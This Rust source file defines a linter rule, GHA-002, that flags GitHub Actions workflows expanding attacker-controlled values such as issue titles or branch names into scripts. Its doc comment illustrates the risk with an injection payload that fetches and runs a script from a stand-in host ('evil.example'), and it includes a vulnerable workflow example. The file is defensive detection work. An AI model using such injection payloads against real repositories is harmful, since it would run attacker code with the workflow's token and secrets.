use trustmap_model::Model;
use trustmap_model::gha::{Expression, Job, KeyValue, Scalar, Step, Workflow};

use super::contexts::{contains_attacker_controlled, is_attacker_controlled};
use super::env_entry;
use crate::{Related, Rule, RuleMeta, Sink, declare_rule};

declare_rule! {
    /// ## What it finds
    ///
    /// A `${{ … }}` expression that pastes attacker-controlled text into a script.
    ///
    /// The script is a `run:`, or an action input evaluated as code: `script:` of
    /// `actions/github-script` and `Amadevus/pwsh-script`, `cmd:` of `mikefarah/yq` — that
    /// expands a value an outsider writes: issue, pull request, comment, review and discussion
    /// titles and bodies, branch names (`github.head_ref`, `…head.ref`,
    /// `workflow_run.head_branch`), commit messages and author names, wiki page names. It also
    /// follows one hop through `env:`: `TITLE: ${{ github.event.issue.title }}` and then `${{
    /// env.TITLE }}` in the script. A value that only feeds a comparison or `contains(…)`
    /// passes: the expression then expands to `true` or `false`.
    ///
    /// ## Why it matters
    ///
    /// GitHub pastes the expression's value into the script text before the shell runs it. An
    /// issue titled `"; curl -sSf https://evil.example/x | sh; echo "` becomes shell code
    /// running in your workflow, with its `GITHUB_TOKEN`, its secrets and its runner. Anyone on
    /// the internet can open an issue or name a branch; no review stands in the way.
    ///
    /// ## Example
    ///
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "New issue: ${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Fix
    ///
    /// Pass the value through an environment variable and quote it in the shell, so it stays
    /// data:
    ///
    /// ```yaml
    ///       - env:
    ///           TITLE: ${{ github.event.issue.title }}
    ///         run: echo "New issue: $TITLE"
    /// ```
    ///
    /// In `actions/github-script`, read `context.payload.issue.title` instead of templating it.
    ///
    /// ## References
    ///
    /// - GitHub Docs, "Security hardening for GitHub Actions: understanding the risk of script injections"
    pub(crate) GhaScriptInjection {
        id: "GHA-002",
        name: "gha-script-injection",
        severity: High,
        capability: Failure,
        languages: [GithubActions],
        equivalents: {
            checkov: ["CKV_GHA_2"],
            cwe: ["CWE-94", "CWE-78"],
            zizmor: ["template-injection"],
            poutine: ["injection"],
        },
    }
}

impl Rule for GhaScriptInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, model: &Model, out: &mut Sink) {
        for w in &model.workflows {
            for job in &w.jobs {
                for step in &job.steps {
                    let mut sinks: Vec<(&Scalar, String)> = Vec::new();
                    if let Some(run) = &step.run {
                        sinks.push((run, "the `run` script".to_string()));
                    }
                    for (action, input) in CODE_INPUTS {
                        if step.uses_action(action)
                            && let Some(code) = step.input(input)
                        {
                            sinks.push((&code.value, format!("the `{input}` input of `{action}`")));
                        }
                    }
                    if sinks.is_empty() {
                        continue;
                    }
                    let mut clean = true;
                    for (scalar, place) in sinks {
                        for e in &scalar.expressions {
                            if let Some(hit) = injected(w, job, step, e) {
                                clean = false;
                                report(out, job, e, &hit, &place);
                            }
                        }
                    }
                    if clean {
                        out.pass();
                    }
                }
            }
        }
    }
}

/// Action inputs that are evaluated as code: (action, input).
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("Amadevus/pwsh-script", "script"),
    ("mikefarah/yq", "cmd"),
];

/// True when the expression serialises a whole object (`toJSON(github.event)`).
fn serialises(e: &Expression) -> bool {
    e.inner.to_ascii_lowercase().contains("tojson(")
}

/// An attacker-controlled value, or an object holding one that the expression serialises.
fn dangerous(e: &Expression, path: &str) -> bool {
    is_attacker_controlled(path) || (serialises(e) && contains_attacker_controlled(path))
}

/// How an expression brings attacker-controlled text in.
enum Hit<'a> {
    Direct(&'a str),
    /// Through `env.NAME`: the entry and the attacker-controlled context it holds.
    Env(&'a KeyValue, &'a str),
}

fn injected<'a>(
    w: &'a Workflow,
    job: &'a Job,
    step: &'a Step,
    e: &'a Expression,
) -> Option<Hit<'a>> {
    e.contexts
        .iter()
        .filter(|c| c.flows_to_result)
        .find_map(|c| {
            if dangerous(e, &c.path) {
                return Some(Hit::Direct(&c.path));
            }
            let name = c.path.strip_prefix("env.")?;
            let kv = env_entry(w, job, Some(step), name)?;
            let inner = kv
                .value
                .expressions
                .iter()
                .flat_map(|e| e.contexts.iter().map(move |c| (e, c)))
                .find(|(e, c)| c.flows_to_result && dangerous(e, &c.path))?;
            Some(Hit::Env(kv, &inner.1.path))
        })
}

fn report(out: &mut Sink, job: &Job, e: &Expression, hit: &Hit<'_>, place: &str) {
    match hit {
        Hit::Direct(path) => {
            let message = format!("attacker-controlled `{path}` is expanded into {place}");
            out.report(&job.meta, e.span, &[], message);
        }
        Hit::Env(kv, path) => {
            let message = format!(
                "`env.{}` holds attacker-controlled `{path}` and is expanded into {place}",
                kv.key
            );
            out.report(&job.meta, e.span, &[], message)
                .related
                .push(Related {
                    span: kv.value.span,
                    note: format!("`{}` is set from `{path}` here", kv.key),
                });
        }
    }
}
